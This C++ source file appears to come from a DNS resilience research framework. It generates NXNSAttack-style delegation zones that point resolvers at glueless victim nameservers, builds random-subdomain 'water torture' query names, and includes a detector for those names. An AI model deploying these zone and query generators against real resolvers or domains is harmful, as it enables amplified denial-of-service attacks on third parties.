#include "attack/generator.hpp"

#include <cctype>
#include <string>

namespace recwild::attack {

namespace {

// Root/TLD-style TTLs, matching the experiment zone builder.
constexpr dns::Ttl kTtl = 172'800;
constexpr dns::Ttl kNegativeTtl = 60;

/// `<prefix><16 hex chars>` from one 64-bit draw — the cache-busting label.
std::string rand_label(char prefix, stats::Rng& rng) {
  constexpr char kHex[] = "0123456789abcdef";
  const std::uint64_t v = rng.next();
  std::string label(1, prefix);
  for (int i = 15; i >= 0; --i) {
    label.push_back(kHex[(v >> (4 * i)) & 0xF]);
  }
  return label;
}

/// The chain-`i` delegation owner at step `k` (1-based):
/// g^(k-1).c<i>.<attacker_domain>.
dns::Name chain_owner(const NxnsZoneConfig& cfg, int chain, int k) {
  dns::Name name =
      dns::Name::parse(cfg.attacker_domain).prefixed("c" + std::to_string(chain));
  for (int step = 1; step < k; ++step) name = name.prefixed("g");
  return name;
}

/// Victim nameserver host `v<chain*fanout+j>.<victim_domain>` — each chain
/// points at its own slice of the victim name space so `chains * fanout`
/// distinct glueless targets exist.
dns::Name victim_ns(const NxnsZoneConfig& cfg, int chain, int j) {
  return dns::Name::parse(cfg.victim_domain)
      .prefixed("v" + std::to_string(chain * cfg.fanout + j));
}

void add_soa(authns::Zone& zone, const dns::Name& origin,
             const dns::Name& mname) {
  dns::SoaRdata soa;
  soa.mname = mname;
  soa.rname = origin.prefixed("hostmaster");
  soa.serial = 2017'04'12;
  soa.refresh = 14'400;
  soa.retry = 3'600;
  soa.expire = 1'209'600;
  soa.minimum = kNegativeTtl;
  zone.add(dns::ResourceRecord{origin, dns::RRClass::IN, kTtl, soa});
}

/// The NS set delegating step `k+1` of chain `i` inside the zone rooted at
/// the step-`k` owner (k = 0 is the apex). The last step is the attack: it
/// names the glueless victim hosts. Every earlier step stays inside
/// attacker infrastructure on the glued apex nameserver.
void add_delegation(authns::Zone& zone, const NxnsZoneConfig& cfg,
                    const dns::Name& child, int chain, int child_step,
                    const dns::Name& apex_ns) {
  if (child_step == cfg.depth) {
    for (int j = 0; j < cfg.fanout; ++j) {
      zone.add(dns::ResourceRecord{child, dns::RRClass::IN, kTtl,
                                   dns::NsRdata{victim_ns(cfg, chain, j)}});
    }
  } else {
    zone.add(
        dns::ResourceRecord{child, dns::RRClass::IN, kTtl, dns::NsRdata{apex_ns}});
  }
}

}  // namespace

std::vector<authns::Zone> make_nxns_zones(const NxnsZoneConfig& cfg,
                                          const dns::Name& apex_ns,
                                          net::IpAddress apex_addr) {
  const dns::Name apex = dns::Name::parse(cfg.attacker_domain);
  std::vector<authns::Zone> zones;

  authns::Zone apex_zone{apex};
  add_soa(apex_zone, apex, apex_ns);
  apex_zone.add(
      dns::ResourceRecord{apex, dns::RRClass::IN, kTtl, dns::NsRdata{apex_ns}});
  if (apex_ns.is_subdomain_of(apex)) {
    apex_zone.add(dns::ResourceRecord{apex_ns, dns::RRClass::IN, kTtl,
                                      dns::ARdata{apex_addr}});
  }
  for (int chain = 0; chain < cfg.chains; ++chain) {
    add_delegation(apex_zone, cfg, chain_owner(cfg, chain, 1), chain, 1,
                   apex_ns);
  }
  zones.push_back(std::move(apex_zone));

  // Intermediate zones: one per (chain, step) for depth > 1, all served by
  // the same attacker authoritative.
  for (int chain = 0; chain < cfg.chains; ++chain) {
    for (int k = 1; k < cfg.depth; ++k) {
      const dns::Name origin = chain_owner(cfg, chain, k);
      authns::Zone zone{origin};
      add_soa(zone, origin, apex_ns);
      zone.add(dns::ResourceRecord{origin, dns::RRClass::IN, kTtl,
                                   dns::NsRdata{apex_ns}});
      add_delegation(zone, cfg, chain_owner(cfg, chain, k + 1), chain, k + 1,
                     apex_ns);
      zones.push_back(std::move(zone));
    }
  }
  return zones;
}

dns::Name nxns_query_name(const NxnsZoneConfig& cfg, stats::Rng& rng) {
  const int chain = static_cast<int>(rng.index(
      static_cast<std::size_t>(cfg.chains)));
  return chain_owner(cfg, chain, cfg.depth).prefixed(rand_label('x', rng));
}

dns::Name water_torture_query_name(const dns::Name& victim, stats::Rng& rng) {
  return victim.prefixed(rand_label('w', rng));
}

bool is_attack_query_name(const dns::Name& qname) {
  if (qname.label_count() == 0) return false;
  const std::string_view first = qname.label(0);
  if (first.size() < 2) return false;
  if (first[0] == 'v') {
    for (std::size_t i = 1; i < first.size(); ++i) {
      if (std::isdigit(static_cast<unsigned char>(first[i])) == 0) {
        return false;
      }
    }
    return true;
  }
  if (first[0] == 'w' && first.size() == 17) {
    for (std::size_t i = 1; i < first.size(); ++i) {
      if (std::isxdigit(static_cast<unsigned char>(first[i])) == 0) {
        return false;
      }
    }
    return true;
  }
  return false;
}

}  // namespace recwild::attack
